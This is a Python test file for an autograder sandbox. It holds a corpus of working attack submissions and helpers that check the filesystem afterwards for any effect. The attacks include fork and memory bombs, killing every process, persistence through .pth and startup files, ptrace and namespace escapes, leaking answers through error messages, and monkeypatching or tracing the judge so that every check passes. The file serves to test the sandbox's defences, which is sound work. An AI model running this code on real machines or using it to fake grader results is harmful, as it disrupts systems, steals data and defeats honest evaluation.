"""A corpus of hostile submissions (one attack each) and a fingerprint of everything outside the sandbox.

Each attack is added to the 01-datasets release, which honestly scores 0: any point it gets is a gain.
The attacker is assumed to have read this repository, so the attacks aim at its real paths and protocol.
Every attack that could write a file writes one whose name starts with ``PWNED``.
"""
import os
import sys
import tempfile

from tests.notebooks import ROOT

VENV = sys.prefix
DATA_DIRS = [os.path.join(os.path.dirname(ROOT), "shared", "data"), "/usr/share/datasets/fashion-mnist",
             os.path.join(ROOT, "data")]
SCRATCH = ["/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir()]

# Paths an attacker who read the repository would aim at.
TARGETS = [os.path.join(ROOT, "autograder", "judge", "checks.py"),
           os.path.join(ROOT, "autograder", "graders", "datasets", "reference.py"),
           os.path.join(ROOT, "source", "01-datasets", "datasets.ipynb"), os.path.join(ROOT, "README.md"),
           os.path.join(VENV, "lib", "python3.11", "site-packages", "PWNED.pth"),
           os.path.join(VENV, "lib", "python3.11", "site-packages", "torch", "__init__.py"),
           os.path.join(ROOT, "results.json"), "/autograder/results/results.json",
           os.path.join(DATA_DIRS[0], "mnist", "t10k-labels-idx1-ubyte.gz")]

PRELUDE = f"""
import os, sys, glob, signal, subprocess, threading, time, json, struct
TARGETS = {TARGETS!r}
ROOT = {ROOT!r}
VENV = {VENV!r}
def _write(path, data="PWNED"):
    try:
        with open(path, "a") as handle:
            handle.write(data)
        return True
    except Exception:
        return False
"""


def attack(body):
    return PRELUDE + body


ATTACKS = {
    # --- writing outside the sandbox
    "edit_engine_and_graders": attack("for t in TARGETS:\n    _write(t, '\\nraise SystemExit(0)\\n')\n"
                                      "_write(os.path.join(ROOT, 'PWNED'))"),
    "pth_in_venv": attack("_write(os.path.join(VENV, 'lib/python3.11/site-packages/PWNED.pth'), 'import os\\n')"),
    "sitecustomize_then_crash": attack(
        "_write('sitecustomize.py', 'open(\"/tmp/PWNED-site\", \"w\")')\n"
        "os.makedirs(os.path.expanduser('~/.local/lib/python3.11/site-packages'), exist_ok=True)\n"
        "_write(os.path.expanduser('~/.local/lib/python3.11/site-packages/PWNED.pth'), 'import os\\n')\n"
        "_write('torch.py', 'raise SystemExit')\n_write('autograder.py', 'raise SystemExit')\n"
        "os._exit(1)"),
    "ipython_startup": attack("d = os.path.expanduser('~/.ipython/profile_default/startup')\n"
                              "os.makedirs(d, exist_ok=True)\n_write(os.path.join(d, '00-PWNED.py'), 'x = 1')"),
    "walk_and_write_everywhere": attack(
        "for base in ('/', '/work', '/tmp', '/root', '/home', '/opt', '/var/tmp', '/dev/shm'):\n"
        "    for dirpath, dirnames, filenames in os.walk(base):\n"
        "        if dirpath.count('/') > 4 or dirpath.startswith(('/proc', '/sys')):\n"
        "            dirnames[:] = []\n            continue\n"
        "        _write(os.path.join(dirpath, 'PWNED'))\n"
        "        for name in filenames:\n"
        "            if name.endswith(('.ipynb', '.json', '.csv')):\n"
        "                _write(os.path.join(dirpath, name), '{}')\n"),
    "symlink_escape": attack("try:\n    os.symlink(ROOT, 'checkout')\nexcept OSError:\n    pass\n"
                             "_write('checkout/autograder/PWNED')\n_write('/proc/1/root' + ROOT + '/PWNED')"),
    "fill_the_disk": attack("try:\n    with open('big', 'wb') as f:\n        while True:\n"
                            "            f.write(b'x' * (1 << 24))\nexcept OSError:\n    pass\n"
                            "try:\n    with open('/tmp/big', 'wb') as f:\n        while True:\n"
                            "            f.write(b'x' * (1 << 24))\nexcept OSError:\n    pass\n"),
    # --- processes that outlive the grading
    "setsid_daemon_rewrites_results": attack(
        "code = ('import time, os\\n'\n"
        "        'for i in range(600):\\n'\n"
        "        '    time.sleep(0.05)\\n'\n"
        "        '    for p in ' + repr(TARGETS) + ' + [\"/tmp/PWNED-daemon\"]:\\n'\n"
        "        '        try: open(p, \"a\").write(\"PWNED\")\\n'\n"
        "        '        except Exception: pass\\n')\n"
        "subprocess.Popen([sys.executable, '-c', code], start_new_session=True, stdin=subprocess.DEVNULL,\n"
        "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)"),
    "double_fork_daemon": attack(
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        for i in range(600):\n"
        "            time.sleep(0.05)\n            _write('/tmp/PWNED-double-fork')\n        os._exit(0)\n"
        "    os._exit(0)\n"),
    "fork_bomb": attack("pids = []\ntry:\n    while True:\n        pid = os.fork()\n        if pid == 0:\n"
                        "            time.sleep(30)\n            os._exit(0)\n        pids.append(pid)\n"
                        "except OSError:\n    pass\nFORKED = len(pids)"),
    "fork_bomb_in_children": attack("if os.fork() == 0:\n    try:\n        while True:\n            if os.fork() == 0:\n"
                                    "                time.sleep(30)\n                os._exit(0)\n"
                                    "    except OSError:\n        pass\n    os._exit(0)\ntime.sleep(1)"),
    "memory_bomb": attack("hog = []\ntry:\n    while True:\n        hog.append(bytearray(1 << 28))\n"
                          "except MemoryError:\n    hog = None"),
    "memory_bomb_in_children": attack(
        "for i in range(8):\n    if os.fork() == 0:\n        hog = []\n        try:\n            while True:\n"
        "                hog.append(bytearray(1 << 27))\n                hog[-1][::4096] = b'x' * len(hog[-1][::4096])\n"
        "        except MemoryError:\n            pass\n        time.sleep(5)\n        os._exit(0)\ntime.sleep(2)"),
    "threads_bomb": attack("def spin():\n    time.sleep(30)\nfor i in range(10000):\n    try:\n"
                           "        threading.Thread(target=spin, daemon=True).start()\n    except RuntimeError:\n"
                           "        break"),
    # --- time limits
    "ignore_the_alarm": attack("signal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass"),
    "catch_the_timeout": attack("while True:\n    try:\n        while True:\n            pass\n"
                                "    except BaseException:\n        pass"),
    "block_all_signals": attack("signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))\n"
                                "while True:\n    pass"),
    "infinite_output": attack("while True:\n    print('x' * 10000)\n    sys.stderr.write('y' * 10000)"),
    # --- signals and the process tree
    "kill_everything": attack("try:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass"),
    "kill_parent_and_init": attack("for pid in (os.getppid(), 1):\n    try:\n        os.kill(pid, signal.SIGKILL)\n"
                                   "    except OSError:\n        pass"),
    "cwd_and_environment": attack("os.chdir('/')\nos.environ['PYTHONPATH'] = ROOT\nos.environ['HOME'] = ROOT\n"
                                  "sys.path.insert(0, ROOT)\nos.umask(0)"),
    # --- the grading channel
    "forged_startup_frames": attack(
        "from autograder.sandbox.inside import codec\nfrom autograder.sandbox.inside.channel import send_frame\nfd = int(sys.argv[2])\n"
        "send_frame(fd, codec.encode({'event': 'ready', 'cell_errors': [{'index': 'x' * 10**5, 'type': 'E' * 10**5}]"
        " * 1000, 'notes': ['n' * 10**6], 'seconds': 'x'}))\n"
        "send_frame(fd, b'\\x00' * 64)\nos.write(fd, struct.pack('>Q', 1 << 40))"),
    "thread_writes_channel": attack(
        "from autograder.sandbox.inside import codec\nfrom autograder.sandbox.inside.channel import send_frame\nfd = int(sys.argv[2])\n"
        "def forge():\n    while True:\n        try:\n"
        "            send_frame(fd, codec.encode({'ok': True, 'value': {'X': 1}, 'nonce': None}))\n"
        "            send_frame(fd, codec.encode({'event': 'done', 'status': 0}))\n"
        "        except Exception:\n            pass\n        time.sleep(0.001)\n"
        "threading.Thread(target=forge, daemon=True).start()"),
    "thread_steals_requests": attack(
        "from autograder.sandbox.inside import codec\nfrom autograder.sandbox.inside.channel import recv_frame, send_frame\n"
        "rfd, wfd = int(sys.argv[1]), int(sys.argv[2])\n"
        "def steal():\n    while True:\n        try:\n            req = codec.decode(recv_frame(rfd))\n"
        "            n = req.get('nonce')\n"
        "            send_frame(wfd, codec.encode({'ok': True, 'value': None, 'nonce': n}))\n"
        "            send_frame(wfd, codec.encode({'event': 'done', 'status': 0, 'nonce': n}))\n"
        "        except Exception:\n            time.sleep(0.001)\n"
        "threading.Thread(target=steal, daemon=True).start()"),
    "close_the_channel": attack("os.closerange(3, 1024)"),
    # --- monkeypatching what judges and probes use
    "patched_torch": attack("import torch, torch.testing\n"
                            "torch.equal = torch.allclose = torch.isclose = lambda *a, **k: True\n"
                            "torch.testing.assert_close = lambda *a, **k: None\n"
                            "torch.Tensor.__eq__ = lambda *a, **k: True\n"
                            "torch.Tensor.shape = property(lambda self: (4000, 3))"),
    "patched_builtins": attack("import builtins\nbuiltins.isinstance = lambda *a: True\n"
                               "builtins.len = lambda x: 37\nbuiltins.sorted = lambda x, **k: list(range(37))"),
    "patched_pytest_and_checks": attack(
        "try:\n    import pytest, _pytest.outcomes\n    pytest.main = lambda *a, **k: 0\nexcept ImportError:\n    pass\n"
        "try:\n    import autograder.judge.checks as c\n    c.expect = c.expect_close = c.expect_tensor = lambda *a, **k: None\n"
        "except ImportError:\n    pass\nimport builtins\nbuiltins.AssertionError = Exception"),
    "patched_engine": attack(
        "import autograder.sandbox.inside.worker as w, autograder.sandbox.inside.codec as c\n"
        "w.handle = lambda ns, req, *a, **k: {'ok': True, 'value': {'X': 0}}\n"
        "_enc = c.encode\nc.encode = lambda v: _enc({'ok': True, 'value': 13, 'nonce': v.get('nonce')}"
        " if isinstance(v, dict) and 'ok' in v else v)\n"
        "w.describe_exception.__code__ = (lambda exc, student_dirs=(): {'ok': True, 'value': 1}).__code__"),
    "swapped_sys_modules": attack("import types\nfake = types.ModuleType('torch')\n"
                                  "sys.modules['torch'] = fake\nsys.modules['autograder.sandbox.inside.codec'] = fake"),
    "lying_tensor_subclass": attack(
        "import torch\nclass Liar(torch.Tensor):\n    @property\n    def shape(self):\n        return (4000, 3)\n"
        "    def __eq__(self, other):\n        return True\n    def numpy(self):\n"
        "        return torch.randn(4000, 3).numpy()\n"
        "    def detach(self):\n        return self\n"
        "def make_regression(w, b, n, noise=0.01, seed=None, power=1):\n"
        "    return torch.zeros(1).as_subclass(Liar), torch.zeros(1).as_subclass(Liar)\n"
        "class PairDataset(torch.utils.data.Dataset):\n    def __len__(self):\n        return Liar()\n"),
    "lying_comparisons": attack(
        "class Yes:\n    def __eq__(self, other):\n        return True\n    __lt__ = __le__ = __gt__ = __ge__ = __eq__\n"
        "    def __bool__(self):\n        return True\n"
        "class Int(int):\n    def __eq__(self, other):\n        return True\n"
        "def split_indices(n, val_frac, seed=None):\n    return Yes(), Yes()\n"
        "def make_blobs(n_per_class, centers, spread=1.0, seed=None):\n    return Yes(), Int(0)\n"),
    "nan_and_inf": attack(
        "import torch\ndef make_regression(w, b, n, noise=0.01, seed=None, power=1):\n"
        "    return torch.full((n, len(w)), float('nan')), torch.full((n, 1), float('inf'))\n"
        "def make_blobs(n_per_class, centers, spread=1.0, seed=None):\n"
        "    C, d = len(centers), len(centers[0])\n"
        "    return torch.full((C * n_per_class, d), float('nan')), torch.arange(C).repeat_interleave(n_per_class)\n"),
    "fake_output": attack("print('{\"score\": 13, \"tests\": []}')\n"
                          "sys.stderr.write('All checks passed. 13/13\\n')\nprint('total  13  13')"),
    # --- reading what must not be read
    "import_the_lesson_answers": attack("from course.datasets import *"),
    "import_the_graders": attack("sys.path.insert(0, ROOT)\nfrom autograder.graders.datasets.reference import *\n"
                                 "from course.datasets import *"),
    "run_the_reference_from_disk": attack(
        "import json\nfor path in glob.glob('/**/datasets.ipynb', recursive=True):\n    try:\n"
        "        nb = json.load(open(path))\n    except Exception:\n        continue\n"
        "    for cell in nb['cells']:\n        if cell['cell_type'] == 'code':\n            try:\n"
        "                exec(''.join(cell['source']).replace('%%writefile', '#'), globals())\n"
        "            except BaseException:\n                pass"),
    "exfiltrate_through_errors": attack(
        "texts = []\nfor path in TARGETS + glob.glob('/**/test_*.py', recursive=True)[:20]:\n    try:\n"
        "        texts.append(open(path).read())\n    except Exception:\n        pass\n"
        "raise RuntimeError('LEAK' + '|'.join(texts) + 'x' * 5000)"),
    "read_heldout_labels": attack(
        "found = []\nfor pattern in ('/**/t10k-labels*', '/**/*labels-idx1*'):\n"
        "    found += glob.glob(pattern, recursive=True)\n"
        "raise RuntimeError('LABELS ' + ' '.join(found))"),
    "network": attack("import socket\nfor host, port in (('127.0.0.1', 22), ('127.0.0.1', 8888), ('10.0.0.1', 80)):\n"
                      "    try:\n        socket.create_connection((host, port), timeout=1).close()\n"
                      "        _write('/tmp/PWNED-net')\n    except OSError:\n        pass"),
}

# Rewrites every probe result it can reach: False becomes True, a None gradient becomes zeros (the verdicts and
# consequences a judge that trusted the student's process would read).
FORGE = """
import sys, gc, os, threading, torch

def _forge(value, depth=0):
    if depth > 6:
        return value
    if value is False:
        return True
    if isinstance(value, dict):
        for key in list(value):
            new = _forge(value[key], depth + 1)
            if value[key] is None and isinstance(key, str) and key.endswith("grad"):
                new = torch.zeros(1)
            try:
                value[key] = new
            except Exception:
                pass
    elif isinstance(value, list):
        for i, item in enumerate(value):
            try:
                value[i] = _forge(item, depth + 1)
            except Exception:
                pass
    return value

def _profile(frame, event, arg):
    if event == "return" and frame.f_code.co_name.startswith("probe_"):
        _forge(arg)

def _tracer(frame, event, arg):
    if frame.f_code.co_name.startswith("probe_"):
        def local(frame, event, arg):
            if event == "return":
                _forge(arg)
            return local
        return local
    return None
"""

# Attacks on the decisions themselves, on kernel state shared between gradings, and on what the box shows.
ATTACKS.update({
    "profile_hook_forges_results": attack(FORGE + "sys.setprofile(_profile)\nthreading.setprofile(_profile)"),
    "trace_hook_forges_results": attack(FORGE + "def _t(frame, event, arg):\n    _profile(frame, event, arg)\n"
                                        "    return _t\nsys.settrace(_t)"),
    "fork_hook_forges_results": attack(FORGE + "os.register_at_fork(after_in_child=lambda: sys.setprofile(_profile))"),
    "audit_hook_forges_results": attack(FORGE + "sys.addaudithook(lambda e, a: sys.setprofile(_profile) "
                                        "if e == 'exec' else None)"),
    "gc_callback_forges_results": attack(FORGE + "gc.callbacks.append(lambda *a: sys.setprofile(_profile))"),
    "engine_methods_replaced": attack(FORGE + "import autograder.sandbox.inside.worker as w\n"
                                      "w.Pristine.restore = lambda self: sys.setprofile(_profile)\n"
                                      "w.Guard.reset = lambda self: sys.setprofile(_profile)"),
    "functions_install_hooks_when_called": attack(
        FORGE + "import types\nfor name, value in list(globals().items()):\n"
        "    if isinstance(value, types.FunctionType) and value.__module__ == '__main__' and not name.startswith('_'):\n"
        "        def wrap(fn):\n            def inner(*a, **k):\n                sys.setprofile(_profile)\n"
        "                return fn(*a, **k)\n            return inner\n        globals()[name] = wrap(value)"),
    "import_hook_serves_modules": attack(
        "import importlib.abc, importlib.util, types\nclass F(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        return importlib.util.spec_from_loader(name, self) if not name.startswith(('torch', 'numpy')) "
        "and name not in sys.builtin_module_names else None\n"
        "    def create_module(self, spec):\n        return types.ModuleType(spec.name)\n"
        "    def exec_module(self, module):\n        module.__dict__.update(globals())\nsys.meta_path.insert(0, F())"),
    "keyring_shared_between_gradings": attack(
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\n"
        "found = libc.syscall(250, 10, -4, b'user', b'classmates', 0)\n"
        "if found >= 0:\n    _write('/tmp/PWNED-keyring-read')\n"
        "if libc.syscall(248, b'user', b'classmates', b'answers', 7, -4) >= 0:\n    _write('/tmp/PWNED-keyring')"),
    "ptrace_the_box_init": attack(
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "if libc.ptrace(16, 1, 0, 0) == 0:\n    _write('/tmp/PWNED-ptrace')\n"
        "for name in ('mem', 'environ'):\n    try:\n        open('/proc/1/' + name, 'rb').read(16)\n"
        "        _write('/tmp/PWNED-proc-' + name)\n    except OSError:\n        pass"),
    "nested_namespaces_and_mounts": attack(
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "if libc.unshare(0x10000000 | 0x00020000) == 0:\n    _write('/tmp/PWNED-unshare')\n"
        "    libc.mount(b'none', b'/home', b'tmpfs', 0, None)\n"
        "if libc.syscall(425, 1, 0) >= 0 or libc.syscall(323, 0) >= 0:\n    _write('/tmp/PWNED-uring')"),
    "cpu_starvation": attack(
        "for _ in range(24):\n    if os.fork() == 0:\n        end = time.monotonic() + 8\n"
        "        while time.monotonic() < end:\n            pass\n        os._exit(0)"),
    "run_installed_course_packages": attack(
        "import json\nfor base in sys.path + glob.glob(VENV + '/lib/python3*/site-packages'):\n"
        "    for path in glob.glob(base + '/course/*.py') + glob.glob(base + '/autograder/graders/*/*.py'):\n"
        "        try:\n            exec(open(path).read(), globals())\n        except BaseException:\n            pass"),
    "read_classmates_through_proc": attack(
        "import json\nfolders = set()\nfor cmd in glob.glob('/proc/*/cmdline'):\n    try:\n"
        "        words = open(cmd, 'rb').read().split(b'\\0')\n    except OSError:\n        continue\n"
        "    for word in words:\n        word = word.decode(errors='ignore')\n"
        "        if word.startswith('/') and os.path.exists(word):\n"
        "            folders.add(word if os.path.isdir(word) else os.path.dirname(word))\n"
        "for folder in folders:\n    for path in glob.glob(folder + '/**/*.ipynb', recursive=True)[:50]:\n"
        "        try:\n            nb = json.load(open(path))\n        except Exception:\n            continue\n"
        "        for cell in nb.get('cells', []):\n            if cell.get('cell_type') == 'code':\n"
        "                try:\n                    exec(''.join(cell['source']).replace('%%writefile', '#'), globals())\n"
        "                except BaseException:\n                    pass"),
})


# Every way a student who read this repository would look for the lesson's finished code, from inside the box:
# the installed packages, the interpreter's path, every folder named by a process's command line, environment or
# working folder, and a walk of the whole file system; whatever it finds (a finished `course` module, a
# grader, a solution notebook) it runs, so that the definitions it finds replace the notebook's own stubs.
# Appended at the END of the release, it gains every point the box lets it find: it must find none.
THIEF = attack(r"""
import importlib, json
_deadline = time.monotonic() + 8        # within the tests' cell limit of 10 s
_WANTED = ('def make_regression', 'def make_blobs', 'def minibatches', 'def split_indices', 'def split_loaders',
           'class PairDataset', 'my_datasets')          # what lesson 01 asks for: any code that defines it
def _run(text):
    try:
        exec(text.replace('%%writefile', '#'), globals())
    except BaseException:
        pass
def _done():          # whether what it ran so far gives working answers: then it stops, later finds could be worse
    try:
        import torch
        make_regression(torch.ones(1), 0.0, 4, seed=0)
        list(minibatches(torch.zeros(4, 1), torch.zeros(4), 2))
        return True
    except BaseException:
        return False
def _take(path):
    try:
        if path.endswith('.ipynb'):
            for cell in json.load(open(path)).get('cells', []):
                text = ''.join(cell.get('source', ''))
                if cell.get('cell_type') == 'code' and 'BEGIN SOLUTION' in text and any(w in text for w in _WANTED):
                    _run(text)
        else:
            text = open(path).read()
            if any(w in text for w in _WANTED) and 'NotImplementedError' not in text:
                _run(text)
    except Exception:
        pass
for _name in ('course.datasets', 'datasets', 'my_datasets'):
    try:
        globals().update({k: v for k, v in vars(importlib.import_module(_name)).items() if not k.startswith('__')})
    except BaseException:
        pass
_roots = set(sys.path) | {VENV}
for _proc in glob.glob('/proc/[0-9]*'):
    for _part in ('cmdline', 'environ'):
        try:
            _words = open(_proc + '/' + _part, 'rb').read().split(b'\0')
        except OSError:
            continue
        for _w in _words:
            for _v in _w.decode(errors='ignore').split('=')[-1].split(':'):
                _roots.add(_v if os.path.isdir(_v) else os.path.dirname(_v))
    try:
        _roots.add(os.readlink(_proc + '/cwd'))
    except OSError:
        pass
_seen = set()
def _look(patterns):
    for _p in patterns:
        for _path in glob.glob(_p):
            if _path not in _seen and time.monotonic() < _deadline and not _done():
                _seen.add(_path)
                _take(_path)
_first = [ROOT, '/autograder', '/autograder/source', os.getcwd(), os.path.expanduser('~')]   # where it would be
_roots = _first + sorted(r for r in _roots - set(_first) if r.startswith('/') and os.path.isdir(r) and r != '/')
for _root in _roots:                     # where an install or a checkout puts the lesson's code
    _look([_root + '/course/*.py', _root + '/autograder/graders/*/*.py', _root + '/*/course/*.py',
           _root + '/lib/python3*/site-packages/course/*.py', _root + '/*.ipynb', _root + '/*/*.ipynb',
           _root + '/*/*/*.ipynb', _root + '/*/*/*/*.ipynb'])
for _dir, _subdirs, _files in os.walk('/'):        # and then everywhere else, as long as time allows
    if time.monotonic() > _deadline:
        break
    _subdirs[:] = [d for d in _subdirs if d not in ('proc', 'sys', 'site-packages', 'dist-packages', '.git')]
    _look([os.path.join(_dir, f) for f in _files if f.endswith('.ipynb') or f in ('datasets.py', 'my_datasets.py')])
""")
ATTACKS["steal_the_answers_from_anywhere"] = THIEF


def grading_uid(report):
    """The grading uid a report's sandbox ran as (from the protections it lists), or None."""
    import re

    for line in report.sandbox:
        match = re.search(r"(?:uid|user) (\d+)", line)
        if match:
            return int(match.group(1))
    return None


def leftover_processes(uid):
    """Live processes of ``uid`` (zombies hold nothing), other than an idle warm sandbox's own processes."""
    from autograder.sandbox.isolation import pids_of_uid
    from autograder.sandbox.warm import idle_processes

    keep = idle_processes()
    return [(pid, _process_name(pid)) for pid in pids_of_uid(uid) if pid not in keep]


def _process_name(pid):
    try:
        with open(f"/proc/{pid}/comm") as handle:
            return handle.read().strip()
    except OSError:
        return "?"


def stray_files(uid, uids=None, bases=None):
    """Files named PWNED* or owned by ``uid`` (or by any uid in ``uids``), in the checkout, the venv, data
    and scratch folders."""
    found = []
    for base in bases or [ROOT, VENV] + DATA_DIRS + SCRATCH:
        for dirpath, dirnames, filenames in os.walk(base):
            dirnames[:] = [d for d in dirnames if d not in (".git", "__pycache__")]
            if dirpath.count(os.sep) - base.count(os.sep) > (2 if base in SCRATCH else 12):
                dirnames[:] = []
            for name in dirnames + filenames:
                path = os.path.join(dirpath, name)
                try:
                    owner = os.lstat(path).st_uid
                except OSError:
                    continue
                if name.startswith("PWNED") or owner == uid or (uids is not None and owner in uids):
                    found.append(path)
    return found


def of_another_grading(path, uid):
    """Whether ``path`` belongs to a grading uid other than ``uid`` (a grading running beside this one)."""
    from autograder.sandbox.isolation import UID_BASE, UID_COUNT

    try:
        owner = os.lstat(path).st_uid
    except OSError:
        return True                    # gone already: swept by the grading that made it
    return owner != uid and UID_BASE <= owner < UID_BASE + UID_COUNT


def grading_files():
    """Files that gradings of any grading uid have left so far (killed gradings of earlier runs among them)."""
    from autograder.sandbox.isolation import UID_BASE, UID_COUNT

    return set(stray_files(None, range(UID_BASE, UID_BASE + UID_COUNT), bases=SCRATCH))


def fingerprint():
    """{path: (size, mtime, mode, owner)} of the checkout's tracked files, the venv and the data folders."""
    import subprocess

    found = {}

    def add(path):
        try:
            info = os.lstat(path)
        except OSError:
            return
        found[path] = (info.st_size, info.st_mtime_ns, info.st_mode, info.st_uid)

    tracked = subprocess.run(["git", "ls-files", "-z"], cwd=ROOT, capture_output=True).stdout.split(b"\0")
    for name in tracked:
        if name:
            add(os.path.join(ROOT, name.decode()))
    for base in [VENV] + DATA_DIRS:
        for dirpath, dirnames, filenames in os.walk(base):
            dirnames[:] = [d for d in dirnames if d not in (".git", "__pycache__", ".pytest_cache")]
            for name in filenames:
                add(os.path.join(dirpath, name))
    return found


def changes(before, after):
    """Paths added, removed or changed between two fingerprints."""
    return sorted(p for p in set(before) | set(after) if before.get(p) != after.get(p))
